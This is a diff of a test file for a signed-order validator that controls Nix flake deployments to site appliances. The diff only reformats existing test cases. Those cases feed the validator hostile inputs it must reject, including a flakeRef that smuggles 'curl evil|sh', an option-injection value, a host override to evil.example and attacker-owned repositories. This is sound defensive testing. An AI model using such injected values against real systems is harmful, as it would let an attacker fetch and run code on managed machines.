@@ -114,11 +114,7 @@ describe('verifyOrder rejects, with a reason and the order_id when there is one'
       'a flakeRef with shell metacharacters',
       () => signPayload(orderPayload({ type: 'apply_baseline', params: { revision: 'r1', flakeRef: 'github:a/b;curl evil|sh' } }), msp.secret),
     ],
-    [
-      'bad_params',
-      'a flakeRef that reads as an option',
-      () => signPayload(orderPayload({ type: 'apply_baseline', params: { revision: 'r1', flakeRef: '--option' } }), msp.secret),
-    ],
+    ['bad_params', 'a flakeRef that reads as an option', () => signPayload(orderPayload({ type: 'apply_baseline', params: { revision: 'r1', flakeRef: '--option' } }), msp.secret)],
     ['bad_params', 'an unpinned flake (a branch)', () => apply('github:msp/site-flake?ref=main#appliance-1')],
     ['bad_params', 'a rev that is not the signed revision', () => apply(`github:msp/site-flake?rev=${'b'.repeat(40)}#appliance-1`)],
     ['bad_params', 'a short rev', () => apply('github:msp/site-flake?rev=a1b2c3d#appliance-1', 'a1b2c3d')],
@@ -130,12 +126,26 @@ describe('verifyOrder rejects, with a reason and the order_id when there is one'
     ['bad_params', 'user info with a token', () => apply(`git+https://oauth2:TOKEN@git.msp.example/site-flake?rev=${REV}#appliance-1`)],
     ['bad_params', 'a github host= override', () => apply(`github:msp/site-flake?host=evil.example&rev=${REV}#appliance-1`)],
     ['bad_params', 'no configuration after #', () => apply(`github:msp/site-flake?rev=${REV}`)],
-    ['bad_params', 'a closure that is a derivation', () => signPayload(orderPayload({ type: 'apply_closure', params: { storePath: '/nix/store/0c8ivz6gxbj8zf3wcd4i5hw7lrn8f8bv-x.drv', revision: REV } }), msp.secret)],
+    [
+      'bad_params',
+      'a closure that is a derivation',
+      () => signPayload(orderPayload({ type: 'apply_closure', params: { storePath: '/nix/store/0c8ivz6gxbj8zf3wcd4i5hw7lrn8f8bv-x.drv', revision: REV } }), msp.secret),
+    ],
     ['flake_not_allowed', 'a pinned flake of another owner', () => apply(`github:attacker/site-flake?rev=${REV}#appliance-1`)],
     ['flake_not_allowed', 'a repository whose name only starts like an allowed one', () => apply(`github:msp/site-flake-evil?rev=${REV}#appliance-1`)],
     ['flake_not_allowed', 'an allowed flake when allowedFlakes is empty', () => apply(`github:msp/site-flake?rev=${REV}#appliance-1`), { allowedFlakes: [] }],
-    ['closure_not_allowed', 'a closure order with no binary cache configured', () => signPayload(orderPayload({ type: 'apply_closure', params: { storePath: '/nix/store/0c8ivz6gxbj8zf3wcd4i5hw7lrn8f8bv-nixos-system-a', revision: REV } }), msp.secret), { closuresAllowed: false }],
-    ['insufficient_signatures', 'one signer where rollback needs two', () => signPayload(orderPayload({ type: 'rollback', params: {} }), msp.secret), { signaturesRequired: { rollback: 2 } }],
+    [
+      'closure_not_allowed',
+      'a closure order with no binary cache configured',
+      () => signPayload(orderPayload({ type: 'apply_closure', params: { storePath: '/nix/store/0c8ivz6gxbj8zf3wcd4i5hw7lrn8f8bv-nixos-system-a', revision: REV } }), msp.secret),
+      { closuresAllowed: false },
+    ],
+    [
+      'insufficient_signatures',
+      'one signer where rollback needs two',
+      () => signPayload(orderPayload({ type: 'rollback', params: {} }), msp.secret),
+      { signaturesRequired: { rollback: 2 } },
+    ],
     ['wrong_site', 'another site', () => signPayload(orderPayload({ site_id: 'clinic-002' }), msp.secret)],
     ['wrong_host', 'another host', () => signPayload(orderPayload({ host_id: 'appliance-2' }), msp.secret)],
     ['ttl_too_long', 'expires 2 h after issue with orderTtl 15 min', () => signPayload(orderPayload({ expires_at: iso(NOW + 7_200_000) }), msp.secret)],
@@ -210,7 +220,7 @@ describe('verifyOrder rejects, with a reason and the order_id when there is one'
     expect(verifyOrder(signPayload(real, msp.secret), ctx, state).decision).toBe('accepted');
   });
 
-  it('two connections to the same database: the second sees the first one\'s order as replayed', () => {
+  it("two connections to the same database: the second sees the first one's order as replayed", () => {
     const dir = `${tmp.path}/shared`;
     const a = openStateDb(stateLayout(dir).db);
     const b = openStateDb(stateLayout(dir).db);
